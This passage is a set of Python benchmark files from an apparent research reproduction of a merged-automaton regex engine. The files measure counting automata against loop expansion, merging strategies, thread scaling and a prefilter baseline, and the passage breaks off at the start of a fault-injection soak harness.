    "tok=[A-Za-z0-9]{24}=",
    "tok=[A-Za-z0-9]{24}!",
]

STREAM = (
    b"ip=192.168.001.200 allow ip=10.0.0.1 deny "
    b"id=0123456789abcdef0123456789abcdef ok "
    b"id=ffffffffffffffffffffffffffffffff bad "
    b"tok=AbCdEfGhIjKlMnOpQrStUvWx= tok=000000000000000000000000! "
) * 4


def _build():
    expanded = compile_ruleset(RULES, CompileOptions(merging_factor=0, emit_anml=False))
    per_rule = [(i, build_counting_fsa(p)) for i, p in enumerate(RULES)]
    report = CountingMergeReport()
    merged_counting = merge_counting_fsas(per_rule, report=report)
    return expanded, per_rule, merged_counting, report


def test_counting_mfsa_ablation(benchmark):
    expanded, per_rule, merged_counting, report = benchmark.pedantic(
        _build, rounds=1, iterations=1
    )

    mfsa_run = IMfantEngine(expanded.mfsas[0]).run(STREAM)
    separate = set()
    separate_work = 0
    for rule_id, cfsa in per_rule:
        run = CountingSetEngine(cfsa, rule_id).run(STREAM)
        separate |= run.matches
        separate_work += run.stats.transitions_examined
    merged_run = CountingMfsaEngine(merged_counting).run(STREAM)

    assert mfsa_run.matches == separate == merged_run.matches

    print()
    print(format_table(
        ("representation", "states", "transitions", "work (trans. examined)"),
        [
            ("expanded MFSA (paper pipeline)",
             expanded.mfsas[0].num_states, expanded.mfsas[0].num_transitions,
             mfsa_run.stats.transitions_examined),
            ("per-rule counting engines",
             sum(c.num_states for _, c in per_rule),
             sum(c.num_transitions for _, c in per_rule),
             separate_work),
            ("merged counting MFSA",
             merged_counting.num_states, merged_counting.num_transitions,
             merged_run.stats.transitions_examined),
        ],
        title="Ablation — counting MFSA vs expansion vs per-rule counting",
    ))
    shared = [a for a in merged_counting.counting if len(a.bel) > 1]
    print(f"shared counters: {len(shared)} of {len(merged_counting.counting)} "
          f"({report.merged_counting} counting arcs merged)")

    # the counting representations dodge the expansion blow-up
    assert merged_counting.num_states < expanded.mfsas[0].num_states / 2
    assert merged_run.stats.transitions_examined < mfsa_run.stats.transitions_examined / 2
    # and merging shares at least one counter across rules
    assert shared
