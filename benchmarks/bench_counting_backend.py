"""Counting backend vs the loop-expansion pipeline across bound sizes.

The counting backend's claim is that a bounded repeat ``{m,n}`` costs a
counter register (one entry deque, :data:`COUNTING_REGISTER_BYTES`
modelled bytes) instead of ``n`` expanded state copies — so compile
time, automaton memory and the interpretive frontier stay flat as the
bound grows, where the expansion pipeline scales linearly.  This sweep
pins that down: for bounds 8 → 4096 it compiles
``begin[^\\n]{N}end`` (plus a small decoy rule) through both pipelines
and records

* compile wall time (min of N repeats) for each pipeline;
* peak modelled memory, using the guard layer's accounting model
  (``states*STATE_BYTES + transitions*TRANSITION_BYTES`` plus
  ``registers*COUNTING_REGISTER_BYTES`` for the counting compile);
* warm scan throughput of ``backend="counting"`` on the counting
  compile vs ``backend="lazy"`` on the expanded compile, over a stream
  with planted matches;
* the oracle assertion: both pipelines report byte-identical
  ``(rule, end)`` sets at every bound.

Entry points
============

``python benchmarks/bench_counting_backend.py``
    Full sweep; writes ``BENCH_counting.json`` at the repo root and
    asserts the acceptance criteria (counting compiles faster and
    smaller than expansion at the largest bound).

``python benchmarks/bench_counting_backend.py --smoke``
    Two small bounds, one repeat — the CI wiring
    (``make counting-smoke``) runs this to keep the sweep honest
    without the full cost.

``pytest benchmarks/bench_counting_backend.py --benchmark-only``
    pytest-benchmark timings for the scan loop at a single bound.
"""

from __future__ import annotations

import json
import sys
import time
from pathlib import Path

from repro.engine.imfant import IMfantEngine
from repro.guard.budget import (
    COUNTING_REGISTER_BYTES,
    STATE_BYTES,
    TRANSITION_BYTES,
)
from repro.pipeline.compiler import CompileOptions, compile_ruleset

BOUNDS = (8, 32, 128, 512, 1024, 4096)
SMOKE_BOUNDS = (8, 64)
DECOY_RULE = "abc[0-9]{2,6}z"
COUNT_THRESHOLD = 8


def _patterns(bound: int) -> list:
    return [f"begin[^\n]{{{bound}}}end", DECOY_RULE]


def _payload(bound: int, copies: int = 8) -> bytes:
    """A stream planting ``copies`` matches of each rule."""
    body = bytes(33 + i % 90 for i in range(bound))  # printable, no \n
    return (b"  abc123z " + b"begin" + body + b"end ") * copies


def _modelled_bytes(mfsas) -> int:
    """Peak modelled memory under the guard layer's accounting model."""
    total = 0
    for mfsa in mfsas:
        counting = getattr(mfsa, "counting", ())
        plain = mfsa.plain if counting else mfsa.transitions
        total += mfsa.num_states * STATE_BYTES
        total += (len(plain) + len(counting)) * TRANSITION_BYTES
        total += len(counting) * COUNTING_REGISTER_BYTES
    return total


def _best_compile_seconds(patterns, options, repeats: int) -> tuple:
    """(min wall seconds, last result) over ``repeats`` cold compiles."""
    best = float("inf")
    result = None
    for _ in range(repeats):
        start = time.perf_counter()
        result = compile_ruleset(patterns, options)
        best = min(best, time.perf_counter() - start)
    return best, result


def _best_scan_seconds(mfsas, backend, payload, repeats: int) -> tuple:
    """(min wall seconds, match set) over ``repeats`` warm scans."""
    engines = [IMfantEngine(m, backend=backend) for m in mfsas]
    for engine in engines:  # warm lazy/dense caches out of the timing
        engine.run(payload[:64], collect_stats=False)
    best = float("inf")
    matches: set = set()
    for _ in range(repeats):
        start = time.perf_counter()
        matches = set()
        for engine in engines:
            matches |= engine.run(payload, collect_stats=False).matches
        best = min(best, time.perf_counter() - start)
    return best, matches


def run_sweep(bounds=BOUNDS, repeats: int = 3) -> dict:
    rows = []
    for bound in bounds:
        patterns = _patterns(bound)
        payload = _payload(bound)
        expanded_opts = CompileOptions(emit_anml=False)
        counting_opts = CompileOptions(
            emit_anml=False, counting=True, count_threshold=COUNT_THRESHOLD
        )

        exp_compile_s, exp = _best_compile_seconds(patterns, expanded_opts, repeats)
        cnt_compile_s, cnt = _best_compile_seconds(patterns, counting_opts, repeats)

        exp_scan_s, exp_matches = _best_scan_seconds(
            exp.mfsas, "lazy", payload, repeats
        )
        cnt_scan_s, cnt_matches = _best_scan_seconds(
            cnt.mfsas, "counting", payload, repeats
        )
        # the oracle: both pipelines, byte-identical matches
        assert cnt_matches == exp_matches, (
            f"bound {bound}: counting != expanded oracle "
            f"(diff {cnt_matches ^ exp_matches})"
        )
        assert any(rule == 0 for rule, _ in exp_matches), (
            f"bound {bound}: the counted rule never fired"
        )

        rows.append(
            {
                "bound": bound,
                "payload_bytes": len(payload),
                "matches": len(exp_matches),
                "expanded": {
                    "compile_s": round(exp_compile_s, 6),
                    "states": sum(m.num_states for m in exp.mfsas),
                    "modelled_bytes": _modelled_bytes(exp.mfsas),
                    "scan_s": round(exp_scan_s, 6),
                    "scan_mb_per_s": round(len(payload) / exp_scan_s / 1e6, 3),
                },
                "counting": {
                    "compile_s": round(cnt_compile_s, 6),
                    "states": sum(m.num_states for m in cnt.mfsas),
                    "registers": sum(
                        len(getattr(m, "counting", ())) for m in cnt.mfsas
                    ),
                    "modelled_bytes": _modelled_bytes(cnt.mfsas),
                    "scan_s": round(cnt_scan_s, 6),
                    "scan_mb_per_s": round(len(payload) / cnt_scan_s / 1e6, 3),
                },
            }
        )

    top = rows[-1]
    return {
        "benchmark": "counting backend vs loop expansion, bound sweep",
        "note": (
            "begin[^\\n]{N}end + decoy rule through both pipelines; "
            "min-of-%d timings; modelled memory = guard accounting model; "
            "match sets oracle-asserted at every bound" % repeats
        ),
        "results": rows,
        "summary": {
            "max_bound": top["bound"],
            "compile_speedup": round(
                top["expanded"]["compile_s"] / top["counting"]["compile_s"], 2
            ),
            "modelled_memory_ratio": round(
                top["expanded"]["modelled_bytes"] / top["counting"]["modelled_bytes"],
                2,
            ),
            "scan_speedup": round(
                top["counting"]["scan_mb_per_s"] / top["expanded"]["scan_mb_per_s"], 2
            ),
        },
    }


def main(argv) -> int:
    if "--smoke" in argv:
        report = run_sweep(bounds=SMOKE_BOUNDS, repeats=1)
        summary = report["summary"]
        assert summary["modelled_memory_ratio"] > 1.0, summary
        print(
            "counting bench smoke ok: memory ratio %.2fx, compile speedup %.2fx "
            "at bound %d" % (
                summary["modelled_memory_ratio"],
                summary["compile_speedup"],
                summary["max_bound"],
            )
        )
        return 0

    report = run_sweep()
    out = Path(__file__).resolve().parent.parent / "BENCH_counting.json"
    out.write_text(json.dumps(report, indent=2) + "\n")

    print(f"{'bound':>6} {'exp compile':>12} {'cnt compile':>12} "
          f"{'exp bytes':>10} {'cnt bytes':>10} {'exp MB/s':>9} {'cnt MB/s':>9}")
    for row in report["results"]:
        print(
            f"{row['bound']:>6} "
            f"{row['expanded']['compile_s']:>11.4f}s "
            f"{row['counting']['compile_s']:>11.4f}s "
            f"{row['expanded']['modelled_bytes']:>10} "
            f"{row['counting']['modelled_bytes']:>10} "
            f"{row['expanded']['scan_mb_per_s']:>9.2f} "
            f"{row['counting']['scan_mb_per_s']:>9.2f}"
        )
    summary = report["summary"]
    print(
        "at bound %d: compile %sx faster, %sx less modelled memory, "
        "scan throughput ratio %sx (counting/expanded-lazy, warm)" % (
            summary["max_bound"],
            summary["compile_speedup"],
            summary["modelled_memory_ratio"],
            summary["scan_speedup"],
        )
    )
    # acceptance: the counting compile must beat expansion on compile
    # time AND modelled memory at the largest bound
    assert summary["compile_speedup"] > 1.0, summary
    assert summary["modelled_memory_ratio"] > 1.0, summary
    print(f"wrote {out}")
    return 0


# -- pytest-benchmark entry points ------------------------------------------


def test_counting_scan_benchmark(benchmark):
    bound = 1024
    payload = _payload(bound)
    mfsas = compile_ruleset(
        _patterns(bound),
        CompileOptions(emit_anml=False, counting=True, count_threshold=COUNT_THRESHOLD),
    ).mfsas
    engines = [IMfantEngine(m, backend="counting") for m in mfsas]

    def scan():
        out = set()
        for engine in engines:
            out |= engine.run(payload, collect_stats=False).matches
        return out

    matches = benchmark(scan)
    oracle = compile_ruleset(_patterns(bound), CompileOptions(emit_anml=False)).mfsas
    expected = set()
    for mfsa in oracle:
        expected |= IMfantEngine(mfsa).run(payload, collect_stats=False).matches
    assert matches == expected


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
