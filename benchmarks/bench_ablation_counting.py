"""Ablation — loop expansion vs counting-set execution (related work [12]).

The paper expands bounded repeats to maximise merging (Fig. 5a); the
cost is automaton size linear in the bound, and the expansion budget
gives up beyond it.  Counting automata keep the loop compressed and pay
a small per-byte counter cost instead.  This bench sweeps the bound for
a `[ab]{k}c`-style rule and measures both representations' size and
work, asserting the crossover the related work predicts.
"""

from repro.automata.optimize import compile_re_to_fsa
from repro.automata.simulate import find_match_ends
from repro.counting import CountingSetEngine, build_counting_fsa
from repro.engine.infant import INfantEngine
from repro.reporting.tables import format_table

BOUNDS = (8, 32, 128)
STREAM = ("ab" * 300 + "c" + "ba" * 100) * 2


def _sweep():
    rows = []
    for bound in BOUNDS:
        pattern = f"[ab]{{{bound}}}c"
        expanded = compile_re_to_fsa(pattern)
        counting = build_counting_fsa(pattern)
        run_expanded = INfantEngine(expanded).run(STREAM)
        run_counting = CountingSetEngine(counting).run(STREAM)
        assert run_counting.matches == run_expanded.matches, bound
        rows.append((bound, expanded, counting, run_expanded.stats, run_counting.stats))
    return rows


def test_counting_vs_expansion(benchmark):
    rows = benchmark.pedantic(_sweep, rounds=1, iterations=1)

    table = []
    for bound, expanded, counting, exp_stats, cnt_stats in rows:
        table.append((
            bound,
            expanded.num_states, counting.num_states,
            exp_stats.transitions_examined, cnt_stats.transitions_examined,
            f"{exp_stats.wall_seconds * 1e3:.1f}", f"{cnt_stats.wall_seconds * 1e3:.1f}",
        ))
    print()
    print(format_table(
        ("bound k", "expanded Q", "counting Q", "expanded work", "counting work",
         "expanded ms", "counting ms"),
        table,
        title="Ablation — [ab]{k}c: expansion vs counting-set",
    ))

    # automaton size: expansion grows linearly with k, counting is flat
    q_expanded = [row[1].num_states for row in rows]
    q_counting = [row[2].num_states for row in rows]
    assert q_expanded[-1] > q_expanded[0] * 8
    assert q_counting[-1] == q_counting[0]
    # per-byte work: the expanded automaton evaluates k live copies of the
    # class transition; the counter does O(1) bookkeeping
    exp_work = [row[3].transitions_examined for row in rows]
    cnt_work = [row[4].transitions_examined for row in rows]
    assert exp_work[-1] > 10 * cnt_work[-1]


def test_counting_beyond_expansion_budget(benchmark):
    """Large bounds are exactly where counting wins: the expansion
    pipeline spends one state per repetition (the construction expands
    structurally even past the AST-pass budget), counting matches the
    same rule in constant space."""
    pattern = "[ab]{500}c"
    counting = build_counting_fsa(pattern)
    stream = "ab" * 260 + "c"

    run = benchmark.pedantic(
        lambda: CountingSetEngine(counting).run(stream), rounds=1, iterations=1
    )
    expanded = compile_re_to_fsa(pattern)
    print(f"\nbound 500: counting automaton has {counting.num_states} states "
          f"vs {expanded.num_states} for the expanded form")
    assert counting.num_states < 10
    assert expanded.num_states > 400
    assert run.matches == {(0, e) for e in find_match_ends(expanded, stream)}
