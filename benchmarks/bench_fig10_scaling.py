"""Fig. 10 — multi-threaded execution time, T ∈ [1, 128], M ∈ [1, all].

Paper (4C/8T machine): execution time ~halves per thread doubling up to
the physical cores and plateaus beyond; most M>1 configurations beat the
multi-threaded single-FSA baseline; best-MFSA vs best-single speedups
range 2.52x–6.18x (geomean 4.05x); MFSAs reach the single-FSA best
latency with 1–2 threads.  The bench drives the counter-calibrated
machine-model simulation (DESIGN.md §3, substitution 3).
"""

from conftest import m_label
from repro.reporting.experiments import experiment_scaling, scaling_summary
from repro.reporting.tables import format_table, geometric_mean


def test_fig10_thread_scaling(benchmark, config):
    data = benchmark.pedantic(
        lambda: experiment_scaling(config), rounds=1, iterations=1
    )

    summaries = {}
    for abbr, per_m in data.items():
        print()
        print(format_table(
            ("M", *(f"T={t}" for t in config.threads)),
            [
                (m_label(m), *(f"{series[t]:.0f}" for t in config.threads))
                for m, series in per_m.items()
            ],
            title=f"Fig. 10 (reproduced) — {abbr} latency (work units)",
        ))
        summaries[abbr] = scaling_summary(per_m)
        print(f"  best M>1 vs best M=1 speedup: {summaries[abbr]['speedup']:.2f}x; "
              f"MFSA threads to reach single-FSA best: "
              f"{summaries[abbr]['mfsa_threads_to_match_single']:.0f}")

    geomean = geometric_mean([s["speedup"] for s in summaries.values()])
    print(f"\ngeomean best-MFSA speedup over best multi-threaded single-FSA: "
          f"{geomean:.2f}x (paper: 4.05x)")

    for abbr, per_m in data.items():
        baseline = per_m[1]
        # halving trend up to the physical cores for the M=1 baseline
        assert baseline[2] < 0.7 * baseline[1], abbr
        assert baseline[4] < 0.7 * baseline[2], abbr
        # plateau beyond the hardware threads
        assert abs(baseline[128] - baseline[8]) <= 0.25 * baseline[8], abbr
    for abbr, summary in summaries.items():
        assert summary["speedup"] > 1.0, abbr
        assert summary["mfsa_threads_to_match_single"] <= 4, abbr
    assert 1.5 <= geomean <= 12.0
