"""Ablation — cost-model calibration robustness (DESIGN.md §3, sub. 3).

The thread-scaling figures run on a work model calibrated against the
Python engines.  This bench sweeps the coefficients across a 4x range
and asserts the paper's qualitative conclusions survive every
calibration: merging beats the baseline, and MFSAs need fewer threads
than multi-threaded single FSAs.
"""

from repro.engine.cost import CostModel
from repro.reporting.experiments import (
    ExperimentConfig,
    experiment_scaling,
    experiment_throughput,
    scaling_summary,
)
from repro.reporting.tables import format_table, geometric_mean

CALIBRATIONS = {
    "default": CostModel(),
    "dispatch-heavy": CostModel(c_char=4.0, c_trans=0.3, c_active=0.2),
    "bandwidth-heavy": CostModel(c_char=1.0, c_trans=1.0, c_active=0.2),
    "activation-heavy": CostModel(c_char=2.0, c_trans=0.3, c_active=0.8),
}


def _sweep(base: ExperimentConfig):
    out = {}
    for name, model in CALIBRATIONS.items():
        config = ExperimentConfig(
            datasets=("BRO", "DS9", "TCP"),
            scale=base.scale,
            stream_size=base.stream_size,
            merging_factors=(1, 2, 10, 0),
            threads=(1, 2, 4, 8, 16),
            cost_model=model,
        )
        throughput = experiment_throughput(config)
        scaling = experiment_scaling(config)
        out[name] = (throughput, scaling)
    return out


def test_costmodel_robustness(benchmark, config):
    results = benchmark.pedantic(lambda: _sweep(config), rounds=1, iterations=1)

    rows = []
    for name, (throughput, scaling) in results.items():
        best = [max(r["improvement"] for r in per_m.values()) for per_m in throughput.values()]
        speedups = [scaling_summary(per_m)["speedup"] for per_m in scaling.values()]
        threads = [scaling_summary(per_m)["mfsa_threads_to_match_single"]
                   for per_m in scaling.values()]
        rows.append((
            name,
            f"{geometric_mean(best):.2f}x",
            f"{geometric_mean(speedups):.2f}x",
            int(max(threads)),
        ))
        # qualitative conclusions hold under every calibration
        assert all(b > 1.2 for b in best), name
        assert all(s > 1.0 for s in speedups), name
        assert max(threads) <= 4, name

    print()
    print(format_table(
        ("calibration", "best-M throughput (geomean)", "Fig.10 speedup (geomean)",
         "max threads to match"),
        rows,
        title="Ablation — cost-model calibration sweep",
    ))
