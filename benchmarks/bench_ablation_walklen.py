"""Ablation — minimum shared-sub-path length (the merge-granularity dial).

Algorithm 1 merges "common sub-paths"; our default treats even a single
shared transition as mergeable (maximal merging), which at ruleset scale
over-compresses relative to the paper (90 % vs 71.95 % states at full
size) because single-arc coincidences abound over a small alphabet.
Requiring walks of ≥ 2 transitions reproduces the paper's compression
almost exactly at paper scale (73.1 % / 55.5 % measured vs 71.95 % /
38.88 % reported) — strong evidence the original merges multi-transition
sub-paths only.

This bench runs the L-sweep at *full ruleset scale* for three suites
(merging is fast enough: a few seconds per suite) and asserts the
bracketing: L=1 over-compresses, L=2 lands in the paper band, L=3
under-compresses.
"""

from repro.automata.optimize import compile_re_to_fsa
from repro.datasets import DATASET_PROFILES, generate_ruleset
from repro.engine.imfant import IMfantEngine
from repro.mfsa.merge import MergeReport, merge_fsas
from repro.reporting.tables import format_table

SUITES = ("BRO", "PRO", "TCP")
WALK_LENGTHS = (1, 2, 3)


def _sweep():
    out = {}
    for abbr in SUITES:
        ruleset = generate_ruleset(DATASET_PROFILES[abbr])  # FULL scale
        fsas = [(i, compile_re_to_fsa(p)) for i, p in enumerate(ruleset.patterns)]
        per_l = {}
        for length in WALK_LENGTHS:
            report = MergeReport()
            mfsa = merge_fsas(fsas, report=report, min_walk_len=length)
            per_l[length] = (mfsa, report)
        out[abbr] = per_l
    return out


def test_walk_length_ablation(benchmark):
    results = benchmark.pedantic(_sweep, rounds=1, iterations=1)

    rows = []
    for abbr, per_l in results.items():
        rows.append((
            abbr,
            *(f"{per_l[length][1].state_compression:.1f}%" for length in WALK_LENGTHS),
        ))
    print()
    print(format_table(
        ("Dataset", *(f"L={length}" for length in WALK_LENGTHS)),
        rows,
        title="Ablation — state compression vs min sub-path length "
              "(full-scale suites; paper reports 71.95% average)",
    ))

    averages = {
        length: sum(per_l[length][1].state_compression for per_l in results.values())
        / len(results)
        for length in WALK_LENGTHS
    }
    print(f"averages: " + ", ".join(f"L={k}: {v:.1f}%" for k, v in averages.items()))

    # the paper's 71.95% lies between the L=2 and L=3 regimes; L=1 overshoots
    assert averages[1] > 80.0
    assert 55.0 <= averages[2] <= 85.0
    assert averages[3] < averages[2] < averages[1]

    # correctness is independent of L: spot-check matches on one suite
    ruleset = generate_ruleset(DATASET_PROFILES["BRO"].scaled(20))
    fsas = [(i, compile_re_to_fsa(p)) for i, p in enumerate(ruleset.patterns)]
    stream = b"GET /cgi-bin/test.cgi select x from y"
    reference = None
    for length in WALK_LENGTHS:
        mfsa = merge_fsas(fsas, min_walk_len=length)
        got = IMfantEngine(mfsa).run(stream, collect_stats=False).matches
        if reference is None:
            reference = got
        assert got == reference, length
