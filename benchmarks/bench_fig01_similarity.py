"""Fig. 1 — average normalised INDEL similarity per dataset.

Paper: average morphological similarity ratio ≈ 0.34 across the six
suites, with Protomata the highest (~0.5).  The bench times the pairwise
INDEL sweep and prints the per-suite bars.
"""

from conftest import m_label  # noqa: F401  (shared bench helpers)
from repro.reporting.experiments import experiment_similarity
from repro.reporting.tables import format_table


def test_fig1_similarity(benchmark, config):
    sims = benchmark.pedantic(
        lambda: experiment_similarity(config), rounds=1, iterations=1
    )

    print()
    print(format_table(
        ("Dataset", "Avg normalised INDEL similarity"),
        [(abbr, f"{value:.3f}") for abbr, value in sims.items()],
        title="Fig. 1 (reproduced)",
    ))

    # Shape assertions: similarity is substantial everywhere and PRO leads.
    assert all(0.05 < v < 0.9 for v in sims.values())
    assert max(sims, key=sims.get) == "PRO"
