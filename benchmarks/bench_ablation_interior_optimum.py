"""Ablation — the interior merging-factor optimum of huge-active-set suites.

Paper §VI-C1: most suites peak at M=all, but Protomata peaks at M=10 and
Dotstar09 at M=100 because their enormous active sets (Table II) make a
fully merged automaton expensive to manage.  The effect needs >64 rules
per MFSA (multi-word activation masks), so this bench runs DS9/PRO at a
larger scale (1/3) than the default sweep.
"""

from repro.reporting.experiments import ExperimentConfig, experiment_throughput

LARGE = ExperimentConfig(
    datasets=("DS9", "PRO", "TCP"),
    scale=3,
    stream_size=1024,
    merging_factors=(1, 5, 10, 20, 50, 0),
)


def test_interior_optimum_for_active_heavy_suites(benchmark):
    data = benchmark.pedantic(
        lambda: experiment_throughput(LARGE), rounds=1, iterations=1
    )

    print()
    for abbr, per_m in data.items():
        series = {("all" if m == 0 else m): round(row["improvement"], 2)
                  for m, row in per_m.items()}
        print(f"{abbr}: throughput improvement by M = {series}")

    pro = data["PRO"]
    best_pro = max(pro, key=lambda m: pro[m]["improvement"])
    # PRO's optimum is an intermediate factor, not "all" (paper: M=10).
    assert best_pro != 0, f"PRO should peak below M=all, got M={best_pro}"
    # TCP (tiny active sets) keeps monotone gains to M=all (paper Fig. 9).
    tcp = data["TCP"]
    assert max(tcp, key=lambda m: tcp[m]["improvement"]) == 0
    # merging always beats the baseline everywhere
    for per_m in data.values():
        assert all(row["improvement"] >= 0.95 for row in per_m.values())
