"""Hybrid engine — MFSA merging with counting-set outliers.

A realistic mixed ruleset (literal signatures + a few huge bounded
repeats) is executed three ways: everything expanded and merged (the
paper's pipeline), everything on per-rule counting engines, and the
hybrid split.  The hybrid keeps the merged automaton small *and* dodges
the expansion blow-up; matches are asserted identical across all three.
"""

from repro.automata.optimize import compile_re_to_fsa
from repro.counting import CountingSetEngine, build_counting_fsa
from repro.engine.hybrid import HybridEngine
from repro.engine.imfant import IMfantEngine
from repro.pipeline.compiler import CompileOptions, compile_ruleset
from repro.reporting.tables import format_table

RULES = [
    "GET /login",
    "POST /upload",
    "session=[0-9a-f]{64}",          # counting outlier (64-run)
    "auth failure for [a-z]+",
    "padding[=:][A-Za-z0-9]{120}",   # counting outlier (120-run)
    "set-cookie: tracker",
]

STREAM = (
    b"GET /login POST /upload auth failure for mallory "
    b"session=" + b"ab01" * 16 + b" padding=" + b"X" * 120 + b" set-cookie: tracker "
) * 6


def test_hybrid_split(benchmark):
    hybrid = HybridEngine(RULES)
    matches, report = benchmark.pedantic(
        lambda: hybrid.run(STREAM), rounds=1, iterations=1
    )

    # baseline 1: everything expanded + merged
    expanded = compile_ruleset(RULES, CompileOptions(merging_factor=0, emit_anml=False))
    expanded_run = IMfantEngine(expanded.mfsas[0]).run(STREAM)
    assert expanded_run.matches == matches

    # baseline 2: everything per-rule counting
    counting_matches = set()
    counting_states = 0
    for rule_id, pattern in enumerate(RULES):
        cfsa = build_counting_fsa(pattern)
        counting_states += cfsa.num_states
        counting_matches |= CountingSetEngine(cfsa, rule_id).run(STREAM).matches
    assert counting_matches == matches

    print()
    print(format_table(
        ("configuration", "automata", "states", "work (trans. examined)"),
        [
            ("expanded + merged MFSA", 1, expanded.mfsas[0].num_states,
             expanded_run.stats.transitions_examined),
            ("per-rule counting", len(RULES), counting_states, "-"),
            (f"hybrid ({report.merged_rules} merged + {report.counting_rules} counting)",
             report.mfsa_count + report.counting_rules, "-",
             report.stats.transitions_examined),
        ],
        title="Hybrid split on a mixed ruleset",
    ))

    assert report.counting_rules == 2
    assert report.merged_rules == 4
    # the expanded automaton pays ~190 states for the two counted runs
    assert expanded.mfsas[0].num_states > 150
