"""Baseline — Hyperscan-style decomposition vs iMFAnt (paper §VII, [6]).

Regex decomposition guards each rule's automaton behind an exact literal
prefilter.  Its economics depend on the stream's hit rate: on cold
streams almost every rule is skipped; on hot streams the prefilter pays
for itself less and the MFSA's shared single pass wins.  This bench runs
both engines over streams of increasing hit density, verifies identical
matches, and reports the work picture across the sweep.
"""

from repro.datasets import generate_stream
from repro.decompose.engine import PrefilterEngine
from repro.engine.imfant import IMfantEngine
from repro.reporting.experiments import dataset_bundle
from repro.reporting.tables import format_table

DENSITIES = (0.0, 0.1, 0.4)


def _sweep(bundle, config):
    prefilter = PrefilterEngine(bundle.ruleset.patterns)
    mfsa_engine = IMfantEngine(bundle.compiled(0).mfsas[0])
    out = []
    for density in DENSITIES:
        stream = generate_stream(bundle.ruleset, config.stream_size, hit_density=density)
        pf_matches, pf_stats = prefilter.run(stream)
        mfsa_run = mfsa_engine.run(stream)
        assert pf_matches == mfsa_run.matches, density
        out.append((density, pf_stats, mfsa_run.stats, len(pf_matches)))
    return out


def test_decomposition_baseline(benchmark, config):
    bundle = dataset_bundle("TCP", config)  # literal-heavy: decomposition's best case
    sweep = benchmark.pedantic(lambda: _sweep(bundle, config), rounds=1, iterations=1)

    rows = []
    for density, pf_stats, mfsa_stats, matches in sweep:
        rows.append((
            f"{density:.1f}",
            matches,
            f"{pf_stats.rules_skipped}/{pf_stats.total_rules}",
            pf_stats.bytes_scanned_confirming,
            pf_stats.engine.transitions_examined,
            mfsa_stats.transitions_examined,
        ))
    print()
    print(format_table(
        ("hit density", "matches", "rules skipped", "bytes confirmed",
         "prefilter FSA work", "iMFAnt FSA work"),
        rows,
        title="Baseline — decomposition prefilter vs iMFAnt (TCP-like suite)",
    ))

    cold = sweep[0]
    hot = sweep[-1]
    # on a cold stream the literal gate eliminates most rules...
    assert cold[1].rules_skipped > cold[1].total_rules * 0.5
    # ...and confirmation touches far fewer bytes than a full scan would
    full_scan = cold[1].total_rules * config.stream_size
    assert cold[1].bytes_scanned_confirming < 0.5 * full_scan
    # on hot streams the prefilter's confirmation work grows sharply
    assert hot[1].bytes_scanned_confirming > 4 * cold[1].bytes_scanned_confirming
