"""Ablation — merging-structure commit order (Algorithm 1's free choice).

The paper's Algorithm 1 collects all Merging Structures but leaves the
conflict-resolution order unspecified.  Our default commits longest
walks first (longer shared paths win conflicting state bindings); the
ablation compares that against plain discovery order.  Correctness is
identical by construction (the map stays a bijection either way); only
the achieved compression differs.
"""

from repro.engine.imfant import IMfantEngine
from repro.mfsa.merge import MergeReport, merge_fsas
from repro.reporting.experiments import dataset_bundle
from repro.reporting.tables import format_table

STRATEGIES = ("longest-first", "discovery-order")


def _sweep(bundles):
    out = {}
    for abbr, bundle in bundles.items():
        fsas = list(enumerate(bundle.compiled(1).fsas))
        per_strategy = {}
        for strategy in STRATEGIES:
            report = MergeReport()
            mfsa = merge_fsas(fsas, report=report, strategy=strategy)
            per_strategy[strategy] = (mfsa, report)
        out[abbr] = per_strategy
    return out


def test_merge_strategy_ablation(benchmark, config):
    bundles = {abbr: dataset_bundle(abbr, config) for abbr in ("BRO", "DS9", "TCP")}
    results = benchmark.pedantic(lambda: _sweep(bundles), rounds=1, iterations=1)

    rows = []
    for abbr, per_strategy in results.items():
        longest, longest_report = per_strategy["longest-first"]
        discovery, discovery_report = per_strategy["discovery-order"]
        rows.append((
            abbr,
            longest.num_states, discovery.num_states,
            f"{longest_report.state_compression:.1f}%",
            f"{discovery_report.state_compression:.1f}%",
        ))
        # matches must be identical whatever the commit order
        stream = bundles[abbr].stream
        assert IMfantEngine(longest).run(stream, collect_stats=False).matches == \
            IMfantEngine(discovery).run(stream, collect_stats=False).matches, abbr

    print()
    print(format_table(
        ("Dataset", "longest-first Q", "discovery Q",
         "longest-first comp.", "discovery comp."),
        rows,
        title="Ablation — merging-structure commit order (M=all)",
    ))

    # longest-first never does worse in total across the suites
    total_longest = sum(row[1] for row in rows)
    total_discovery = sum(row[2] for row in rows)
    assert total_longest <= total_discovery
