"""Chaos-soak harness for the self-healing serve stack.

Drives loadgen-style traffic (retrying clients, closed loop) against a
live :class:`~repro.serve.server.ServerThread` while injecting the serve
fault drills one window at a time:

* ``steady``          — no faults; the baseline window;
* ``conn_drop``       — ``serve.conn.drop``: replies dropped before the
  write; clients must reconnect and be answered from the dedup window;
* ``frame_truncate``  — ``serve.frame.truncate``: torn reply frames;
* ``worker_kill``     — process-mode shard workers SIGKILLed mid-soak
  (the external OOM-killer form of ``serve.worker.kill``); the
  supervisor restarts them, a storm opens the breaker, scans continue
  inline;
* ``reload``          — two hot ruleset swaps under traffic;
* ``recovery``        — faults off; the pool must return to steady
  state (ready, full shard count, breaker closed) and serve cleanly.

A separate ``worker_hang`` drill exercises the scan watchdog against a
dedicated process pool (``serve.worker.hang`` must be armed before the
workers fork, so it cannot be toggled mid-soak).

Hard assertions, not vibes: **zero** incorrect match sets against the
single-process oracle (during the reload window a response may match
either ruleset's oracle — never a mixture), availability >= 99% over
the whole soak, and the final window back at 100% with the server
ready.  Emits ``BENCH_resilience.json``.

Examples::

    PYTHONPATH=src python benchmarks/bench_resilience.py           # full soak
    PYTHONPATH=src python benchmarks/bench_resilience.py --smoke   # CI form
"""

from __future__ import annotations

import argparse
import json
import sys
import threading
import time
from pathlib import Path
from tempfile import TemporaryDirectory

from repro.cli import _demo_stream
from repro.datasets import load_builtin
from repro.engine.imfant import IMfantEngine
from repro.guard import faultinject
from repro.pipeline.compiler import CompileOptions
from repro.serve import (
    ArtifactStore,
    MatchClient,
    RetryPolicy,
    ServeConfig,
    ServerThread,
    ShardPool,
)

DEFAULT_RULESET = "tokens_exact"  # bounded match width -> the pool really shards

AVAILABILITY_FLOOR = 0.99

#: (name, armed fault point or None, probability)
DRILLS = [
    ("steady", None, None),
    ("conn_drop", "serve.conn.drop", 0.2),
    ("frame_truncate", "serve.frame.truncate", 0.2),
